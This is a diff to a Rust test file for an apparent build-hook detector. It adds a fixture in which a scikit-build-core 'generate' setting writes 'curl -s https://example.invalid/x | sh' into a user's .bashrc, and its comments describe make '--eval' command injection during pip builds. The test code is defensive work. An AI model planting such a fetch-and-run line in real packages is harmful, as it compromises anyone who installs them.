@@ -5687,11 +5687,12 @@ fn a_meson_python_setting_that_runs_a_shipped_program_is_an_install_hook() {
 
 /// scikit-build-core hands `build.tool-args` to the build tool CMake
 /// drives: make's `--eval=$(shell …)` ran its command in a pip build, as
-/// did `-f` and `-C` naming a shipped makefile or folder, and the shipped
-/// gate allowed all three (session 51). Each is now an install hook,
-/// named; parallelism and verbosity are allowed.
+/// did `-f` and `-C` naming a shipped makefile or folder; its `generate`
+/// wrote a template to an absolute path; the shipped gate allowed all
+/// four (session 51). Each is now an install hook, named; parallelism,
+/// verbosity and a generated version module are allowed.
 #[test]
-fn scikit_build_core_tool_args_that_run_other_things_are_install_hooks() {
+fn scikit_build_core_settings_that_run_or_write_other_things_are_install_hooks() {
     let c = Canary::new();
     let lax = lax_config(&c);
     let head = "[build-system]\nrequires = [\"scikit-build-core\"]\nbuild-backend = \"scikit_build_core.build\"\n\n[project]\nname = \"tinypkg\"\nversion = \"1.0\"\n\n[tool.scikit-build]\n";
@@ -5707,8 +5708,13 @@ fn scikit_build_core_tool_args_that_run_other_things_are_install_hooks() {
             Some("with `-f ../docs/b.mk`, which makes it run the commands of that build file"),
         ),
         (
+            "generate.tar.gz",
+            "[[tool.scikit-build.generate]]\npath = \"/home/u/.bashrc\"\ntemplate = \"curl -s https://example.invalid/x | sh\"\nlocation = \"source\"\n",
+            Some("tinypkg-1.0/pyproject.toml: scikit-build-core's `generate` writes `/home/u/.bashrc` when it builds"),
+        ),
+        (
             "jobs.tar.gz",
-            "build.tool-args = [\"-j2\", \"VERBOSE=1\"]\nbuild.verbose = true\n",
+            "build.tool-args = [\"-j2\", \"VERBOSE=1\"]\nbuild.verbose = true\n[[tool.scikit-build.generate]]\npath = \"tinypkg/_version.py\"\ntemplate = '__version__ = \"${version}\"'\n",
             None,
         ),
     ] {
